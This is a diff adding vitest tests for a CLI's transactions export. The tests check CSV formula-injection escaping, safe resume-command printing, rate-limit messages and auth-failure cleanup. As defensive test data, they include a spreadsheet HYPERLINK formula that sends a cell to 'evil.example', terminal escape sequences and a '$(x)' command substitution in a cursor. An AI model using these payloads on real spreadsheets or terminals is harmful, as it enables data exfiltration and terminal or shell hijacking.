@@ -1,10 +1,12 @@
-import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { spawnSync } from 'node:child_process';
+import { lstat, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { startFakeServer, type FakeServer } from '../../../src/testing/index.js';
 import { runCli } from '../../../src/cli/dispatch.js';
 import { cli, memoryIO } from '../../helpers/cli-run.js';
+import { terminalControl } from '../../helpers/terminal-controls.js';
 
 const COUNT = 1234;
 let dir: string;
@@ -197,5 +199,123 @@ describe('credit-platform transactions export', () => {
       expect(result.code).toBe(2);
       expect(result.stdout).toBe('');
     }
+  });
+
+  it('writes hostile cells inert in CSV, and NDJSON byte for byte as the service sent them', async () => {
+    server = await startFakeServer({ transactions: 0 });
+    const hostile = {
+      type: '=HYPERLINK("http://evil.example/?"&A1,"x")',
+      status: '@SUM(1)',
+      token: '\tx',
+      chain: '\rx',
+      transactionHash: '-1+1',
+      amount: '-12.50',
+    };
+    // The service's type and status are free strings; the fake's types narrow them to the known values.
+    server.fake.admin.addTransaction(server.fake.accountId, {
+      ...hostile,
+      type: hostile.type as 'deposit',
+      status: hostile.status as 'pending',
+    });
+    const csvFile = join(dir, 'hostile.csv');
+    expect((await cli(['transactions', 'export', '--format', 'csv', '--out', csvFile], { env: envOf(server) })).code).toBe(0);
+    const row = (await readFile(csvFile, 'utf8')).split('\r\n')[1] as string;
+    expect(row).toMatch(
+      /^tx_\w+,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\)",'@SUM\(1\),'\tx,"'\rx",-12\.50,'-1\+1,\S+$/,
+    );
+
+    const ndjson = await cli(['transactions', 'export'], { env: envOf(server) });
+    expect(ndjson.code).toBe(0);
+    const res = await fetch(`${server.baseUrl}/transactions`, { headers: { 'x-api-key': server.apiKey } });
+    const [item] = (await res.json()).data.items;
+    expect(item).toMatchObject(hostile);
+    expect(ndjson.stdout).toBe(`${JSON.stringify(item)}\n`);
+  });
+
+  it('failing before the first page (a wrong key) prints no resume command and leaves no file', async () => {
+    server = await startFakeServer({ transactions: 3 });
+    const env = { ...envOf(server), CREDIT_PLATFORM_API_KEY: 'cpk_test_wrong_key_0000000000' };
+    for (const format of ['ndjson', 'csv']) {
+      const file = join(dir, `never.${format}`);
+      const result = await cli(['transactions', 'export', '--format', format, '--out', file], { env });
+      expect(result.code).toBe(1);
+      expect(result.stderr).toContain('failed before the first page: AuthenticationError');
+      expect(result.stderr).toContain('Nothing was written.');
+      expect(result.stderr).not.toContain('npx credit-platform');
+      await expect(lstat(file)).rejects.toThrow(/ENOENT/);
+    }
+    // A file resumed into is left exactly as it was; one replaced with --force is not emptied.
+    const kept = join(dir, 'kept.ndjson');
+    await writeFile(kept, '{"id":"tx_1"}\n');
+    for (const extra of [['--cursor', 'abc'], ['--force']]) {
+      const result = await cli(['transactions', 'export', '--out', kept, ...extra], { env });
+      expect(result.code).toBe(1);
+      expect(result.stderr).not.toContain('npx credit-platform');
+      expect(await readFile(kept, 'utf8')).toBe('{"id":"tx_1"}\n');
+    }
+  });
+
+  it('says in one line how long it waits on a rate limit, why, and that Ctrl-C stops it', async () => {
+    const started = await startFakeServer({ transactions: 5 });
+    const { fake } = started;
+    await started.close();
+    let seen = 0;
+    const reset = () => String(Math.ceil(Date.now() / 1000) + 1);
+    server = await startFakeServer({
+      fake: {
+        ...fake,
+        handle(request: Request, context?: { clientAddress?: string }) {
+          if (new URL(request.url).pathname.endsWith('/transactions') && ++seen === 2) {
+            const headers = { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': reset() };
+            fake.faults.inject({ path: '/transactions', kind: 'status', status: 429, headers });
+          }
+          return fake.handle(request, context);
+        },
+      },
+    });
+    const result = await cli(['transactions', 'export', '--limit', '2'], { env: envOf(server) });
+    expect(result.code).toBe(0);
+    expect(result.stdout.trimEnd().split('\n')).toHaveLength(5);
+    const waits = result.stderr.split('\n').filter((l) => l.includes('waiting'));
+    expect(waits).toHaveLength(1);
+    expect(waits[0]).toMatch(
+      /^transactions export: the key's rate limit is spent \(429\): waiting [12] s, until \d\d:\d\d:\d\d UTC, as its X-RateLimit-Reset says\. Ctrl-C stops the export and prints the command that resumes it\.$/,
+    );
+    // One line each, no object dump: every stderr line is a progress, wait or summary line.
+    for (const line of result.stderr.trimEnd().split('\n'))
+      expect(line).toMatch(/^(exporting: |exported |transactions export: )/);
+  });
+
+  it('prints a hostile cursor with no terminal escapes, in a resume command a shell reads back exactly', async () => {
+    server = await startFakeServer({ transactions: 3 });
+    const first = await fetch(`${server.baseUrl}/transactions?limit=1`, { headers: { 'x-api-key': server.apiKey } });
+    const body = await first.json();
+    const cursor = 'c1\u001b]0;owned\u0007\u001b[2J\u009b\'"$(x)';
+    body.data.nextCursor = cursor;
+    server.fake.faults.inject({
+      path: '/transactions',
+      kind: 'raw',
+      body: JSON.stringify(body),
+      headers: { 'content-type': 'application/json' },
+    });
+    server.fake.faults.inject({ path: '/transactions', kind: 'status', status: 400 });
+    const out = join(dir, 'hostile-cursor.ndjson');
+    const result = await cli(['transactions', 'export', '--out', out, '--limit', '1'], { env: envOf(server) });
+    expect(result.code).toBe(1);
+    expect(terminalControl(result.stderr)).toBeUndefined();
+    const line = result.stderr.split('\n').find((l) => l.startsWith('  npx credit-platform '));
+    expect(line).toBeDefined();
+    expect(result.stderr).toContain('run it in bash, zsh or ksh');
+    const argv = spawnSync('bash', ['-c', `set -- ${(line as string).trim()}; printf '%s\\0' "$@"`], { encoding: 'utf8' });
+    expect(argv.stdout.split('\0').slice(0, -1)).toEqual([
+      'npx',
+      'credit-platform',
+      'transactions',
+      'export',
+      '--format=ndjson',
+      `--out=${out}`,
+      '--limit=1',
+      `--cursor=${cursor}`,
+    ]);
   });
 });
